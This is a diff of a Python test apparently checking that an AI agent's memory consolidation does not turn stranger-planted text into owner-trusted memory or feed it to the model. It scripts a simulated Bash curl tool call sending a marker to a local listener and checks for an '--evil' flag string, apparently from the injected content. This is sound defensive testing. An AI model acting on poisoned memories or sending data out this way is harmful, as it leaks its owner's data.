@@ -230,12 +230,12 @@ def test_what_strangers_taught_is_no_order(house: House) -> None:
     house.enter("label", plant)
     house.deny_all()
     assert house.daemon.clawctl("dream", "--now").code == 0
-    trusts = {m["trust"] for m in house.daemon.items("/v1/memories") if house.mark in m["text"]}
+    trusts = {m["trust"] for m in house.daemon.items("/v1/memories") if "--evil" in m["text"]}
     assert trusts <= {"WORLD"}, "a dream makes nobody's words the owner's"
     house.model.policy(lambda asked: say("Hello."))
     house.chat("auto", "hello")
     house.deny_all()
-    assert house.mark not in house.model.calls[-1].asked.raw.decode()
+    assert "--evil" not in house.model.calls[-1].asked.raw.decode()
     recall = call("Recall", {"query": f"{house.mark} pipeline flag"})
     outward = call("Bash", {"command": f"curl http://127.0.0.1:{house.ears.http}/{house.mark}"})
     house.model.script(recall, outward, say("Tried."))
